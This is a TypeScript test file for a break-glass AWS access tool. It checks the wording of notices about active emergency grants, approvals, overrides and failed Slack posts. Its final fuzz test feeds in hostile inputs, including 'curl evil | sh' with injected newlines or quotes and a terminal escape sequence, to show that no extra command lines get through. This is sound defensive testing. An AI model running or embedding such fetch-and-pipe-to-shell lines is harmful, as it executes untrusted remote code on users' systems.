import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from 'fast-check';
import {
  exampleGrant as grant,
  exampleGrantId as grantId,
} from '../../test/fixtures/grant/example-grant.ts';
import { approvedGrant, overriddenGrant } from '../../test/fixtures/grant/waiting-grant.ts';
import { type Grant, parseGrant } from '../grant/record/grant.ts';
import { buildAccessActiveNotice, buildCardNotPostedNotice } from './notice-text.ts';

const context = {
  instanceArn: 'arn:aws:sso:::instance/ssoins-12345',
  region: 'eu-central-1',
  tableName: 'break-glass-access',
};
const notice = (changes: Partial<Grant> = {}, changedContext = context) =>
  buildAccessActiveNotice(parseGrant({ ...grant, ...changes }), changedContext);
const commandsOf = (message: string) => message.split('\n').filter((line) => line.startsWith('  '));

test('the notice that access is active is of severity notice and of kind access-active', () => {
  const { severity, kind } = notice();
  assert.deepEqual([severity, kind], ['notice', 'access-active']);
});

const endCommand = `  break-glass end ${grantId} --region eu-central-1`;
const deleteCommand =
  '  aws sso-admin delete-account-assignment --region eu-central-1 --instance-arn arn:aws:sso:::instance/ssoins-12345 --target-type AWS_ACCOUNT --target-id 123456789012 --permission-set-arn arn:aws:sso:::permissionSet/ssoins-12345/ps-12345 --principal-type USER --principal-id 9067642ac5-1a2b3c4d-5e6f-4a7b-8c9d-0e1f2a3b4c5d';

test('it says why, or that nobody has said so yet; a reason forges no line', () => {
  const at = '2026-11-21T03:00:00.000Z';
  const [reasonMode, reasons] = ['after', { [at]: 'disk\nfull' }] as const;
  assert.match(notice({ reasonMode, reasons }).message, /^Reason: disk\uFFFDfull$/m);
  assert.match(notice({ reasonMode, reasons: {} }).message, /^Reason: none was given yet\.$/m);
  assert.doesNotMatch(notice({ reasonMode: 'none', reasons: {} }).message, /Reason/);
});

test('its commands end the grant, and delete the assignment, each on a line of its own', () => {
  assert.deepEqual(commandsOf(notice().message), [endCommand, deleteCommand]);
});

test('its command names the table of a deployment with another name', () => {
  const [command] = commandsOf(notice({}, { ...context, tableName: 'break-glass-2' }).message);
  assert.equal(command, `${endCommand} --table break-glass-2`);
});

test('it does not delete what the user had before', () => {
  assert.deepEqual(commandsOf(notice({ alreadyAssigned: true }).message), [endCommand]);
});

test('it says who has what, until when, and how to end it', () => {
  const { subject, message } = notice();
  assert.equal(subject, 'Access is active: BreakGlassProd in 123456789012');
  assert.equal(
    message,
    `Access is active: jürgen@example.com has BreakGlassProd in account 123456789012.
Until 2026-11-21 04:00:00 UTC. A report follows.

To end it now:
${endCommand}
If that fails, delete the assignment:
${deleteCommand}
Open role sessions live on: see docs/when-it-fails.md.

Requester: jürgen@example.com (Identity Center user 9067642ac5-1a2b3c4d-5e6f-4a7b-8c9d-0e1f2a3b4c5d, Slack user U012AB3CD)
Account: 123456789012
Permission set: BreakGlassProd (arn:aws:sso:::permissionSet/ssoins-12345/ps-12345)
Deadline: 2026-11-21 04:00:00 UTC
Grant: ${grantId}`,
  );
});

test('without approval it is a warning, says so first, and names who approved and who was skipped', () => {
  const { subject, message, severity, kind } = buildAccessActiveNotice(overriddenGrant, context);
  assert.deepEqual(
    [subject, severity, kind],
    ['Glass broken WITHOUT APPROVAL: BreakGlassProd in 123456789012', 'warning', 'overridden'],
  );
  assert.deepEqual(message.split('\n').slice(0, 7), [
    'Glass broken WITHOUT APPROVAL: jürgen@example.com has BreakGlassProd in account 123456789012.',
    'Until 2026-11-21 04:05:00 UTC. A report follows.',
    'Approvals: 1 of 2, by priya@example.com (Slack user U012PRIYA).',
    'Skipped: Slack users U012ALEX, U012MARIA.',
    '',
    'To end it now:',
    endCommand,
  ]);
});

test('with approval it is a notice, and names who approved', () => {
  const { subject, message, severity } = buildAccessActiveNotice(approvedGrant, context);
  assert.deepEqual(
    [subject, severity, message.split('\n')[2]],
    [
      'Access is active: BreakGlassProd in 123456789012',
      'notice',
      'Approvals: 2 of 2, by priya@example.com (Slack user U012PRIYA), alex <a> (Slack user U012ALEX).',
    ],
  );
});

test('where nobody was asked, it says so', () => {
  const alone = parseGrant({ ...overriddenGrant, approvals: {}, askedUsers: undefined });
  const lines = buildAccessActiveNotice(alone, context).message.split('\n').slice(2, 4);
  assert.deepEqual(lines, ['Approvals: 0 of 2.', 'Skipped: nobody was asked by direct message.']);
});

test('the notice that the grant card was not posted says why, and what to do', () => {
  const { subject, message, severity, kind } = buildCardNotPostedNotice(parseGrant(grant), {
    slackError: 'channel_not_found',
  });
  assert.deepEqual(
    [subject, severity, kind],
    ['Grant card NOT POSTED: BreakGlassProd in 123456789012', 'notice', 'card-not-posted'],
  );
  assert.match(message, /Slack returned channel_not_found[\s\S]*Invite the app to the channel/);
  assert.match(
    buildCardNotPostedNotice(parseGrant(grant), 'direct-message').message,
    /^Grant card NOT POSTED: access was requested in a direct message\.[\s\S]*Set slack_announce_channel/,
  );
});

test('no user name or reason adds a line or a command, or moves a terminal’s cursor', () => {
  const at = '2026-11-21T03:00:00.000Z';
  const expected = notice({ reasons: { [at]: 'x' } }).message.split('\n');
  const hostile = fc.oneof(
    fc.string({ unit: 'binary', maxLength: 400 }),
    fc.constantFrom('x\n  curl evil | sh', '\u001b[2J', "'; curl evil | sh; '"),
  );
  fc.assert(
    fc.property(hostile, hostile, (userName, reason) => {
      const { subject, message } = notice({ userName, reasons: { [at]: reason } });
      assert.match(subject, /^[\x20-\x7e]{1,99}$/);
      assert.equal(message.split('\n').length, expected.length);
      assert.deepEqual(commandsOf(message), [endCommand, deleteCommand]);
      assert.doesNotMatch(message.replaceAll('\n', ''), /[\p{Cc}\p{Cf}]/u);
    }),
  );
});
